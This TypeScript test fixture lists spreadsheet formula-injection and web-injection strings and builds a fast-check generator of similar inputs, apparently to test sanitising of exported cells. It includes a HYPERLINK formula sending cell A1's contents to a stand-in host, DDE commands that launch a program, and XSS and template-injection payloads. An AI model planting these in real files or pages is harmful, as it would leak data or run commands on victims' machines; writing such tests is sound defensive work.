import fc from 'fast-check';

/** What a spreadsheet takes for a formula, by every way in that is known, and what a page would run. */
export const SPITEFUL: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://foreign.invalid/?"&A1,"点这里")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '+A1',
  '-1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1"',
  '=1+1",=2+2',
  '<img src=x onerror="window.ran=1">',
  '<script>window.ran=1</script>',
  '"><svg onload=window.ran=1>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '{{constructor.constructor("window.ran=1")()}}',
  'javascript:window.ran=1',
  '_x003D_1+1',
];

/** Such a text, or one made up after them. */
export const spiteful: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SPITEFUL),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', ' =', "'=", '"='), fc.string({ maxLength: 12 })).map(([sign, rest]) => sign + rest),
);
